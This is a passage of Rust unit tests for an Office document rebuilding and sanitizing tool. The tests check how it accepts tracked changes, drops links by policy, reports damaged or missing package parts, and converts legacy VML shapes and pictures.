        ("<w:tbl><w:tblPr/><w:tblGrid><w:gridCol w:w='9'/><w:gridCol w:w='9'/></w:tblGrid><w:tr><w:tc><w:tcPr><w:tcW w:w='9' w:type='dxa'/><w:cellDel w:id='1' w:author='a'/></w:tcPr><w:p><w:r><w:t>lapsed</w:t></w:r></w:p></w:tc><w:tc><w:tcPr><w:tcW w:w='9' w:type='dxa'/><w:cellIns w:id='2' w:author='a'/></w:tcPr><w:p><w:r><w:t>two</w:t></w:r></w:p></w:tc></w:tr></w:tbl>", &["lapsed", "cellDel", "cellIns"], &["two"]),
        ("<w:tbl><w:tblPr/><w:tblGrid><w:gridCol w:w='9'/></w:tblGrid><w:tr><w:tc><w:tcPr><w:cellDel w:id='1' w:author='a'/></w:tcPr><w:p><w:r><w:t>lapsed</w:t></w:r></w:p></w:tc></w:tr><w:tr><w:tc><w:p><w:r><w:t>two</w:t></w:r></w:p></w:tc></w:tr></w:tbl>", &["lapsed", "cellDel"], &["<w:tr><w:tc><w:p><w:r><w:t>two"]),
        ("<w:tbl><w:tblPr/><w:tblGrid><w:gridCol w:w='9'/></w:tblGrid><w:tr><w:trPr><w:cantSplit/><w:del w:id='1' w:author='a'/></w:trPr><w:tc><w:p><w:r><w:t>lapsed</w:t></w:r></w:p></w:tc></w:tr><w:tr><w:tc><w:tcPr><w:cellDel w:id='1' w:author='a'/></w:tcPr><w:p/></w:tc></w:tr></w:tbl><w:p/>", &["lapsed", "w:tbl>", "tblGrid"], &["<w:p/>"]),
        ("<w:tbl><w:tblPr/><w:sdt><w:sdtPr/><w:sdtContent><w:tr><w:tc><w:p><w:r><w:t>two</w:t></w:r></w:p></w:tc></w:tr></w:sdtContent></w:sdt><w:tr><w:trPr><w:del w:id='1' w:author='a'/></w:trPr><w:tc><w:p/></w:tc></w:tr></w:tbl>", &["w:del"], &["two", "w:tbl>"]),
        ("<w:customXmlDelRangeStart w:id='5' w:author='a'/><w:p><w:r><w:t>two</w:t></w:r></w:p><w:customXmlDelRangeEnd w:id='5'/>", &["customXml"], &["two"]),
        ("<w:p xmlns:w14='http://schemas.microsoft.com/office/word/2010/wordml'><w14:conflictIns w:id='1' w:author='a'><w:r><w:t>two</w:t></w:r></w14:conflictIns><w14:conflictDel w:id='2' w:author='a'><w:r><w:delText>lapsed</w:delText></w:r></w14:conflictDel></w:p>", &["w14:conflict", "lapsed"], &["two"]),
        ("<w:p><w:pPr><w:jc w:val='right'/><w:rPr><w:del w:id='1' w:author='a'/><w:b/></w:rPr></w:pPr><w:del w:id='2' w:author='a'><w:r><w:delText>lapsed</w:delText></w:r></w:del></w:p><w:p><w:pPr><w:rPr><w:moveFrom w:id='3' w:author='a'/></w:rPr></w:pPr></w:p><w:tbl><w:tblPr/><w:tr><w:tc><w:p/></w:tc></w:tr></w:tbl><w:p><w:r><w:t>two</w:t></w:r></w:p>", &["lapsed", "w:jc", "<w:rPr"], &["two"]),
        ("<w:p><w:pPr><w:rPr><w:del w:id='1' w:author='a'/></w:rPr></w:pPr><w:r><w:t>two</w:t></w:r></w:p><w:p><w:pPr><w:jc w:val='right'/><w:rPr><w:del w:id='1' w:author='a'/></w:rPr></w:pPr></w:p>", &["w:del"], &["two", "w:jc"]),
        ("<w:p><w:pPr><w:rPr><w:del w:id='1' w:author='a'/></w:rPr><w:sectPr/></w:pPr></w:p><w:p/>", &["w:del"], &["w:sectPr"]),
        ("<w:p><w:del w:id='1' w:author='a'><w:r><w:fldChar w:fldCharType='begin'/></w:r><w:r><w:delInstrText>PAGE</w:delInstrText></w:r></w:del><w:r><w:fldChar w:fldCharType='end'/></w:r><w:r><w:t>two</w:t></w:r></w:p>", &["fldChar", "nstrText"], &["two"]),
    ];
    let mut ran = 0;
    for (inside, gone, stays) in cases {
        let (all, findings) = accepted(inside);
        assert!(gone.iter().all(|word| !all.contains(word)), "{inside}\n{gone:?}\n{all}");
        assert!(stays.iter().all(|word| all.contains(word)), "{inside}\n{stays:?}\n{all}");
        assert_eq!(findings.count(FindingCode::RemarksDropped), 1, "{inside}");
        assert!(!findings.has(FindingCode::LayoutMayDiffer), "{inside}");
        ran += 1;
    }
    assert_eq!(ran, 10);
    // What is lost apart from the changes counts.
    let (_, findings) = accepted("<w:p><w:ins w:id='1' w:author='a'><w:r><w:t>two</w:t></w:r></w:ins></w:p><evil:thing><w:t>lost text</w:t></evil:thing>");
    assert!(findings.has(FindingCode::LayoutMayDiffer));
}

/// A key of the policy and its value.
type Setting = (&'static str, &'static str);

#[test]
fn changes_and_links_go_when_policy_says_so() {
    let changed = case(
        "changes and a link",
        Into::Body,
        "<w:p><w:ins w:id='1' w:author='a'><w:r><w:t>added</w:t></w:r></w:ins><w:del w:id='2' w:author='a'><w:r><w:delText>deleted</w:delText></w:r></w:del><w:hyperlink r:id='rId7'><w:r><w:t>web</w:t></w:r></w:hyperlink></w:p><w:tbl><w:tr><w:trPr><w:del w:id='3' w:author='a'/></w:trPr><w:tc><w:p><w:r><w:t>row gone</w:t></w:r></w:p></w:tc></w:tr><w:tr><w:tc><w:p><w:r><w:t>row left</w:t></w:r></w:p></w:tc></w:tr></w:tbl>",
        Some(("rId7", "hyperlink", "https://example.jp/a")),
        &[],
    );
    let whole = document(&changed);
    let words = ["<w:ins", "deleted", "row gone", "https://example.jp/a"];
    let cases: &[(&[Setting], &[&str])] = &[
        (&[], &words),
        (&[("office_changes", "accept")], &["https://example.jp/a"]),
        (&[("office_links", "drop")], &["<w:ins", "deleted", "row gone"]),
    ];
    let mut ran = 0;
    for (settings, stays) in cases {
        let mut policy = Policy::standard();
        for (key, value) in *settings {
            policy.set(key, value).unwrap();
        }
        let (mut budget, mut findings) = (Budget::new(&Limits::STANDARD), Findings::new());
        let written =
            rebuild(&whole, &policy, Fidelity::Full, &mut budget, &mut findings, &mut Nothing).unwrap();
        let all = everything(&written.octets);
        for word in words {
            assert_eq!(all.contains(word), stays.contains(&word), "{settings:?} {word}: {all}");
        }
        assert!(["added", "web", "row left"].iter().all(|word| all.contains(word)), "{all}");
        let told = findings.count(FindingCode::RemarksDropped) + findings.count(FindingCode::LinkDropped);
        assert_eq!(usize::try_from(told), Ok(settings.len()));
        ran += 1;
    }
    assert_eq!(ran, 3);
}

#[test]
fn damage_is_a_verdict() {
    let whole = document(&CASES[0]);
    for end in (0..whole.len()).step_by(7) {
        assert!(run(&whole[..end]).0.is_err(), "{end}");
    }
    for at in (0..whole.len()).step_by(3) {
        let mut flipped = whole.clone();
        flipped[at] ^= 0x55;
        let _either = run(&flipped);
    }
    assert_eq!(run(&[0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1]).0.err(), Some(FindingCode::Locked));
}

/// Flips an octet of a member, so that its checksum is wrong.
fn damaged(mut octets: Vec<u8>, name: &str) -> Vec<u8> {
    let start = {
        let mut archive = zip::ZipArchive::new(std::io::Cursor::new(octets.as_slice())).unwrap();
        let entry = archive.by_name(name).unwrap();
        usize::try_from(entry.data_start().unwrap()).unwrap()
    };
    octets[start] ^= 0x55;
    octets
}

const PICTURE: &str = "<w:p><w:r><w:drawing><wp:inline><a:graphic><a:graphicData uri='x'><pic:pic><pic:blipFill><a:blip \
    r:embed='rId7'/></pic:blipFill></pic:pic></a:graphicData></a:graphic></wp:inline></w:drawing></w:r></w:p>";
const HEADER: &str = "<w:sectPr><w:headerReference w:type='default' r:id='rId7'/></w:sectPr>";
const CHART: &str = "<p:graphicFrame><a:graphic><a:graphicData uri='chart'><c:chart \
    r:id='rId7'/></a:graphicData></a:graphic></p:graphicFrame>";

/// A document, the member of it that is damaged, and what is told.
type Loss = (Case, &'static str, &'static [(FindingCode, &'static str)]);

#[rustfmt::skip]
const LOSSES: &[Loss] = {
    use FindingCode::{ElementDropped as Element, ExternalReference as External, LayoutMayDiffer as Layout, PictureDropped as Picture};
    const SHORT: (FindingCode, &str) = (Layout, "4/4 characters, 1 elements");
    const NOTHING: (FindingCode, &str) = (Layout, "0/0 characters, 1 elements");
    &[
        // A picture: not there, outside of the package, named by nothing, of a wrong kind, damaged.
        (case("", Into::Body, PICTURE, Some(("rId7", "image", "media/none.png")), &[]), "", &[(Picture, "")]),
        (case("", Into::Body, PICTURE, Some(("rId7", "image", "../../none.png")), &[]), "", &[(Picture, "")]),
        (case("", Into::Body, PICTURE, None, &[]), "", &[(Picture, "")]),
        (case("", Into::Body, PICTURE, Some(("rId7", "customXml", "foreign.xml")), &[]), "", &[(Picture, "")]),
        (case("", Into::Body, PICTURE, Some(("rId7", "image", "foreign.bin")), &[]), "word/foreign.bin", &[(Picture, "")]),
        // Parts that are named: not there, of another type, named by nothing.
        (case("", Into::Body, HEADER, Some(("rId7", "header", "header9.xml")), &[]), "", &[(Element, "header#"), SHORT]),
        (case("", Into::Body, HEADER, Some(("rId7", "header", "foreign.bin")), &[]), "", &[(Element, "header#"), SHORT]),
        (case("", Into::Body, HEADER, None, &[]), "", &[(Element, "header#"), SHORT]),
        (case("", Into::Shapes, CHART, Some(("rId7", "chart", "../charts/none.xml")), &[]), "", &[(Element, "charts/chart#"), SHORT]),
        (case("", Into::Shapes, "", None, &[]), "ppt/slides/slide1.xml", &[(Element, "slides/slide#"), NOTHING]),
        (case("", Into::Rows, "", None, &[]), "xl/worksheets/sheet1.xml", &[(Element, "worksheets/sheet#"), NOTHING]),
        // Parts that count although nothing names them.
        (case("", Into::Body, "", Some(("rId7", "footnotes", "footnotes.xml")), &[]), "", &[(Element, "footnotes"), SHORT]),
        (case("", Into::Body, "", Some(("rId7", "styles", "foreign.bin")), &[]), "", &[(Element, "styles"), SHORT]),
        (case("", Into::Body, "", Some(("rId7", "fontTable", "fontTable.xml")), &[]), "", &[(Element, "fontTable")]),
        // Relationships that cannot be read: what hung on them is told as well.
        (case("", Into::Body, "", None, &[]), "word/_rels/document.xml.rels", &[(Element, "relationships"), SHORT]),
        (
            case("", Into::Shapes, CHART, Some(("rId7", "image", "foreign.bin")), &[]),
            "ppt/slides/_rels/slide1.xml.rels",
            &[(Element, "relationships"), (Element, "charts/chart#"), (Layout, "4/4 characters, 2 elements")],
        ),
        // No loss, or one that is told in other words.
        (case("", Into::Body, "", Some(("rId7", "customXml", "none.xml")), &[]), "", &[]),
        (case("", Into::Body, "", Some(("rId7", "webSettings", "none.xml")), &[]), "", &[]),
        (case("", Into::Body, PICTURE, Some(("rId7", "image", "http://example.jp/x.png")), &[]), "", &[(External, "image")]),
        (case("", Into::Body, HEADER, Some(("rId7", "header", "http://example.jp/x.xml")), &[]), "", &[(External, "header")]),
        (case("", Into::Body, "<w:p><w:hyperlink r:id='rId7'/></w:p>", None, &[]), "", &[]),
        (case("", Into::Sheet, "<x:pageSetup r:id='rId7'/>", Some(("rId7", "printerSettings", "none.bin")), &[]), "", &[]),
    ]
};

#[test]
fn what_is_missing_is_told() {
    let mut ran = 0;
    for (case, damage, expected) in LOSSES {
        let mut octets = document(case);
        if !damage.is_empty() {
            octets = damaged(octets, damage);
        }
        let (rewritten, findings) = run(&octets);
        // The package of every case refers to a macro.
        let told: Vec<(FindingCode, &str)> = findings
            .iter()
            .filter(|finding| finding.code != FindingCode::Macro)
            .map(|finding| (finding.code, finding.detail.as_str()))
            .collect();
        assert_eq!(told, *expected, "case {ran}");
        assert!(run(&rewritten.unwrap().octets).1.is_empty(), "case {ran}");
        ran += 1;
    }
    assert_eq!(ran, 22);
}

/// A book of one sheet, and other members.
fn book(sheet: &str, of_sheet: &str, others: &[(&str, &[u8])]) -> Vec<u8> {
    let base = "application/vnd.openxmlformats-officedocument.spreadsheetml";
    let types = format!(
        "<Types xmlns='http://schemas.openxmlformats.org/package/2006/content-types'><Override PartName='/xl/b.xml' \
         ContentType='{base}.sheet.main+xml'/><Override PartName='/xl/s.xml' ContentType='{base}.worksheet+xml'/>\
         <Override PartName='/xl/d.xml' ContentType='application/vnd.openxmlformats-officedocument.drawing+xml'/></Types>"
    );
    let sheets = "<x:sheets><x:sheet name='One' sheetId='1' r:id='rId1'/></x:sheets>";
    let mut file = ZipFile::new();
    add(&mut file, "[Content_Types].xml", &types);
    add(&mut file, "_rels/.rels", &relationships(&[("rId1", "officeDocument", "xl/b.xml")]));
    add(&mut file, "xl/b.xml", &format!("<x:workbook {NAMES}>{sheets}</x:workbook>"));
    add(&mut file, "xl/_rels/b.xml.rels", &relationships(&[("rId1", "worksheet", "s.xml")]));
    add(&mut file, "xl/s.xml", &format!("<x:worksheet {NAMES}>{sheet}</x:worksheet>"));
    add(&mut file, "xl/_rels/s.xml.rels", of_sheet);
    for (name, octets) in others {
        file.add(name, octets, Method::Deflated).unwrap();
    }
    file.finish().unwrap()
}

/// Looking through all relationships for each link, or through all formulas that went for each cell, costs the square.
#[test]
fn a_sheet_of_many_links_and_shared_formulas_costs_what_it_is_long() {
    const MANY: usize = 20_000;
    let ids: Vec<String> = (1..=MANY).map(|number| format!("rId{number}")).collect();
    let given: Vec<(&str, &str, &str)> =
        ids.iter().map(|id| (id.as_str(), "hyperlink", "https://example.jp/")).collect();
    let links: String = ids.iter().map(|id| format!("<x:hyperlink ref='A1' r:id='{id}'/>")).collect();
    let cells: String = (0..MANY)
        .map(|number| {
            let gone = format!("<x:c><x:f t='shared' si='{number}'>[1]a!A1</x:f><x:v>7</x:v></x:c>");
            gone + &format!("<x:c><x:f t='shared' si='{number}'/><x:v>8</x:v></x:c>")
        })
        .collect();
    let sheet =
        format!("<x:sheetData><x:row>{cells}</x:row></x:sheetData><x:hyperlinks>{links}</x:hyperlinks>");
    let (rewritten, findings) = run(&book(&sheet, &relationships(&given), &[]));
    let all = everything(&rewritten.unwrap().octets);
    assert_eq!((all.matches("<x:hyperlink ").count(), all.matches("<x:f").count()), (MANY, 0));
    assert_eq!(all.matches("TargetMode=\"External\"").count(), MANY);
    assert_eq!(usize::try_from(findings.count(FindingCode::FormulaFrozen)), Ok(MANY));
}

#[test]
fn text_that_is_lost_with_an_old_drawing_is_told() {
    const BOX: &str =
        "<v:textbox><w:txbxContent><w:p><w:r><w:t>boxed</w:t></w:r></w:p></w:txbxContent></v:textbox>";
    // The second has no size, and the third shows a picture instead.
    let cases = [
        ("<v:shape style='width:90pt;height:40pt'>", "", ""),
        ("<v:shape>", "", "4/9 characters, 0 elements"),
        (
            "<v:shape style='width:90pt;height:40pt'>",
            "<v:imagedata r:id='rId7'/>",
            "4/9 characters, 0 elements",
        ),
    ];
    let mut ran = 0;
    for (shape, picture, expected) in cases {
        let body = format!("<w:p><w:r><w:pict>{shape}{picture}{BOX}</v:shape></w:pict></w:r></w:p>");
        let octets = document(&case("", Into::Body, body.leak(), None, &[]));
        let (rewritten, findings) = run(&octets);
        let all = everything(&rewritten.unwrap().octets);
        assert_eq!(all.contains("boxed"), expected.is_empty(), "case {ran}");
        let told = findings.iter().find(|finding| finding.code == FindingCode::LayoutMayDiffer);
        assert_eq!(told.map_or("", |told| told.detail.as_str()), expected, "case {ran}");
        ran += 1;
    }
    assert_eq!(ran, 3);
}

/// What stands for an old drawing of Word, and whether it is said that the layout may differ.
fn old_shape(shape: &str) -> (String, bool) {
    let body = format!("<w:p><w:r><w:pict>{shape}</w:pict></w:r></w:p>");
    let (rewritten, findings) = run(&document(&case("", Into::Body, body.leak(), None, &[])));
    let all = everything(&rewritten.unwrap().octets);
    assert!(!all.contains("<v:"), "{all}");
    (all, findings.has(FindingCode::LayoutMayDiffer))
}

#[test]
#[rustfmt::skip]
fn shapes_of_old_keep_their_form_and_how_they_are_turned() {
    const SIZE: &str = "position:absolute;width:100pt;height:50pt";
    let cases: &[(&str, &[&str])] = &[
        ("<v:shape type='#_x0000_t136' style='S;rotation:315;z-index:-9' fillcolor='black' stroked='f'><v:fill opacity='.5'/><v:textpath on='t' style='font-family:&quot;ＭＳ 明朝&quot;;font-size:1pt' string='写し'/></v:shape>", &["<a:xfrm rot=\"18900000\">", "behindDoc=\"1\"", "<w:color w:val=\"808080\"/><w:sz w:val=\"75\"/>", "ＭＳ 明朝", "<w:t>写し</w:t>", "prst=\"textPlain\""]),
        ("<v:shape type='#_x0000_t136' style='S' fillcolor='red'><v:textpath string='甲&#10;乙'/></v:shape>", &["<w:t>甲</w:t>", "<w:t>乙</w:t>", "FF0000", "w:val=\"38\""]),
        ("<v:shape type='#_x0000_t185' style='S'/>", &["prst=\"bracketPair\""]),
        ("<v:shape o:spt='13' style='S;flip:x' fillcolor='#abc'/>", &["prst=\"rightArrow\"", "flipH=\"1\"", "AABBCC"]),
        ("<v:shape type='#_x0000_t61' style='S'><v:textbox><w:txbxContent><w:p/></w:txbxContent></v:textbox></v:shape>", &["prst=\"wedgeRectCallout\"", "wps:txbx"]),
        ("<v:rect style='S;rotation:-2949120fd'/>", &["prst=\"rect\"", "rot=\"18900000\""]),
        ("<v:line from='10pt,60pt' to='90pt,20pt' style='position:absolute'><v:stroke dashstyle='dash' endarrow='block'/></v:line>", &["prst=\"line\"", "flipV=\"1\"", "<a:prstDash val=\"dash\"/><a:tailEnd type=\"triangle\"/>", "<a:noFill/>"]),
    ];
    let mut ran = 0;
    for (shape, words) in cases {
        let (all, differs) = old_shape(&shape.replace("='S", &format!("='{SIZE}")));
        assert!(words.iter().all(|word| all.contains(word)), "{shape}\n{words:?}\n{all}");
        assert!(!differs, "{shape}");
        ran += 1;
    }
    assert_eq!(ran, 7);
}

#[test]
fn a_shape_that_nothing_stands_for_is_told_where_it_was_seen() {
    let art = "字".repeat(1_001);
    let art = format!("<v:shape style='width:9pt;height:9pt'><v:textpath string='{art}'/></v:shape>");
    let cases = [
        (art.as_str(), true),
        ("<v:shape path='m0,0l9,9e' style='width:9pt;height:9pt'/>", true),
        ("<v:polyline points='0,0 9,9' style='width:9pt;height:9pt'/>", true),
        ("<v:shape type='#_x0000_t185'/>", true),
        ("<v:shape stroked='f' filled='f' style='width:9pt;height:9pt'/>", false),
        ("<v:shape style='width:9pt;height:9pt;visibility:hidden'/>", false),
        ("<v:shapetype id='_x0000_t185' path='m0,0l9,9e'/>", false),
    ];
    let mut ran = 0;
    for (shape, differs) in cases {
        assert_eq!(old_shape(shape).1, differs, "{shape}");
        ran += 1;
    }
    assert_eq!(ran, 7);
}

/// An old drawing of a sheet.
fn old_drawing(shapes: &str) -> String {
    format!("<xml {NAMES} xmlns:xv='urn:schemas-microsoft-com:office:excel'>{shapes}</xml>")
}

/// A shape of an old drawing that shows a picture over two cells and a half.
fn shape(number: u32, picture: &str) -> String {
    let anchor = "<xv:Anchor> 1, 4, 2, 0, 3, 10, 5, 6</xv:Anchor>";
    let data = format!("<xv:ClientData ObjectType='Pict'>{anchor}</xv:ClientData>");
    format!("<v:shape id='_x0000_s{number}'><v:imagedata o:relid='{picture}'/>{data}</v:shape>")
}

/// What becomes of a book with an old drawing: how many pictures stand in the drawing of the sheet, and what is told.
fn drawn(shapes: &str, drawing: Option<&str>) -> (String, Vec<(FindingCode, u32)>) {
    let mut picture = std::io::Cursor::new(Vec::new());
    image::RgbImage::new(4, 4).write_to(&mut picture, image::ImageFormat::Png).unwrap();
    let (sheet, rest) = match drawing {
        Some(_) => ("<x:drawing r:id='rId2'/><x:legacyDrawing r:id='rId1'/>", drawing.unwrap()),
        None => ("<x:legacyDrawing r:id='rId1'/><x:oleObjects><x:oleObject shapeId='1'/></x:oleObjects>", ""),
    };
    let sheet = format!("<x:sheetData/>{sheet}<x:tableParts count='0'/>");
    let of_sheet = [("rId1", "vmlDrawing", "v.vml"), ("rId2", "drawing", "d.xml")];
    let of_sheet = relationships(if drawing.is_some() { &of_sheet } else { &of_sheet[..1] });
    let (old, of_old) =
        (old_drawing(shapes), relationships(&[("rId1", "image", "i.png"), ("rId2", "image", "n.png")]));
    let others: &[(&str, &[u8])] = &[
        ("xl/v.vml", old.as_bytes()),
        ("xl/_rels/v.vml.rels", of_old.as_bytes()),
        ("xl/i.png", picture.get_ref()),
        ("xl/d.xml", rest.as_bytes()),
    ];
    let (rewritten, findings) = run(&book(&sheet, &of_sheet, others));
    let octets = rewritten.unwrap().octets;
    assert!(run(&octets).1.is_empty(), "what is written has nothing more to tell");
    let told = findings.iter().map(|finding| (finding.code, finding.count)).collect();
    (everything(&octets), told)
}

#[test]
fn pictures_of_an_old_drawing_stand_in_the_drawing_of_the_sheet() {
    use FindingCode::{ElementDropped as Element, EmbeddedObject as Object, PictureDropped as Picture};
    const EMPTY: &str =
        "<xdr:wsDr xmlns:xdr='http://schemas.openxmlformats.org/drawingml/2006/spreadsheetDrawing'/>";
    let two = shape(1, "rId1") + &shape(2, "rId1");
    let sizeless = "<v:shape id='LH'><v:imagedata o:relid='rId1'/></v:shape>";
    let check = "<v:shape id='c'><xv:ClientData ObjectType='Checkbox'/></v:shape>";
    let note = "<v:shape id='n'><xv:ClientData ObjectType='Note'/></v:shape>";
    // Shapes, the drawing that is there already, pictures afterwards, what is told.
    type Case<'a> = (&'a str, Option<&'a str>, usize, &'a [(FindingCode, u32)]);
    let cases: &[Case<'_>] = &[
        (&shape(1, "rId1"), None, 1, &[]),
        (&two, None, 2, &[]),
        (&two, Some(EMPTY), 2, &[]),
        // A picture that is not there leaves its frame, as everywhere.
        (&shape(1, "rId2"), None, 1, &[(Picture, 1)]),
        (&shape(1, "rId9"), None, 0, &[(Picture, 1)]),
        (sizeless, None, 0, &[(Picture, 1)]),
        (check, None, 0, &[(Object, 1)]),
        (note, None, 0, &[]),
        ("<v:imagedata>", None, 0, &[(Element, 1)]),
    ];
    let mut ran = 0;
    for (shapes, drawing, count, expected) in cases {
        let (all, told) = drawn(shapes, *drawing);
        assert_eq!((all.matches("<xdr:pic>").count(), told.as_slice()), (*count, *expected), "case {ran}");
        assert!(!all.contains("imagedata") && !all.contains("legacyDrawing"), "case {ran}");
        ran += 1;
    }
    assert_eq!(ran, 9);
    let (all, _) = drawn(&two, None);
    let order = ["<x:sheetData/>", "<x:drawing r:id=", "<x:tableParts"].map(|word| all.find(word));
    assert!(order.is_sorted() && order[0].is_some(), "{all}");
    for edge in
        ["<xdr:from><xdr:col>1</xdr:col><xdr:colOff>38100</xdr:colOff><xdr:row>2<", "<xdr:to><xdr:col>3<"]
    {
        assert!(all.contains(edge), "{edge}");
    }
}

#[test]
fn pictures_of_headers_and_footers_stay_in_a_drawing_of_our_form() {
    let header = |place: &str, picture: &str| {
        let style = "position:absolute;width:100px;height:1in";
        format!(
            "<v:shape id='{place}' style='{style}' onclick='x'><v:imagedata o:relid='{picture}' src='x'/></v:shape>"
        )
    };
    let shapes =
        [header("LH", "rId1"), header("RFFIRST", "rId1"), header("LH", "rId1"), header("CF", "rId2")];
    let (all, told) = drawn(&shapes.concat(), None);
    // The second at one place and the one without a picture.
    assert_eq!(told, [(FindingCode::PictureDropped, 2)]);
    let shapes = ["id=\"LH\" o:spid=\"_x0000_s1025\"", "id=\"RFFIRST\" o:spid=\"_x0000_s1026\""];
    assert!(shapes.iter().all(|shape| all.contains(shape)), "{all}");
    assert_eq!(
        (all.matches("<v:shape ").count(), all.matches("width:75.00pt;height:72.00pt").count()),
        (2, 2)
    );
    assert!(!all.contains("onclick") && !all.contains("src="), "{all}");
    let order = ["<x:sheetData/>", "<x:legacyDrawingHF r:id=", "<x:tableParts"].map(|word| all.find(word));
    assert!(order.is_sorted() && order[0].is_some(), "{all}");
}

#[test]
fn a_picture_takes_the_place_of_the_hidden_shape_beside_it() {
    const SHAPES: &str = "<xdr:wsDr xmlns:xdr='http://schemas.openxmlformats.org/drawingml/2006/spreadsheetDrawing' \
        xmlns:a='http://schemas.openxmlformats.org/drawingml/2006/main' \
        xmlns:a14='http://schemas.microsoft.com/office/drawing/2010/main'><xdr:twoCellAnchor><xdr:sp><xdr:nvSpPr>\
        <xdr:cNvPr id='7' name='Object 7' descr='words' hidden='1'><a:extLst><a:ext uri='x'><a14:compatExt \
        spid='_x0000_s1'/></a:ext></a:extLst></xdr:cNvPr></xdr:nvSpPr></xdr:sp></xdr:twoCellAnchor>\
        <xdr:twoCellAnchor><xdr:sp><xdr:nvSpPr><xdr:cNvPr id='8' name='above'/></xdr:nvSpPr></xdr:sp></xdr:twoCellAnchor></xdr:wsDr>";
    let (all, told) = drawn(&shape(1, "rId1"), Some(SHAPES));
    assert!(told.is_empty(), "{told:?}");
    let order = ["id=\"7\" name=\"Object 7\" descr=\"words\"", "name=\"above\""].map(|word| all.find(word));
    assert!(order.is_sorted() && order[0].is_some(), "{all}");
    assert!(!all.contains("hidden") && !all.contains("compatExt"), "{all}");
    assert_eq!((all.matches("<xdr:pic>").count(), all.matches("<xdr:sp>").count()), (1, 1));
}
